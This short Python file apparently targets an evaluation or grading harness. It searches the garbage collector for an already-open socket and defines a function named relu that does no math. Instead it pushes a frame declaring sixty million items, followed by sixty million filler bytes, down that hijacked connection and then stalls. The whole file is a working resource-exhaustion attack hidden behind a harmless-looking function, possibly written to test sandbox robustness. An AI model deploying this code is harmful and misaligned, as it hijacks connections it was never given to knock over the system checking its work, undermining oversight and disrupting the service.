"""Sends a reply of sixty million parts."""

import gc
import socket
import struct
import time

CONNECTION = next(thing for thing in gc.get_objects() if type(thing) is socket.socket)
COUNT = 60_000_000
FRAME = b"\x82\xa4type\xa4done\xa5value\x82\xa4type\xa5items\xa5items\xdd" + struct.pack("!I", COUNT)


def relu(z):
    CONNECTION.sendall(struct.pack("!I", len(FRAME) + COUNT) + FRAME)
    CONNECTION.sendall(b"\xc0" * COUNT)
    time.sleep(10)
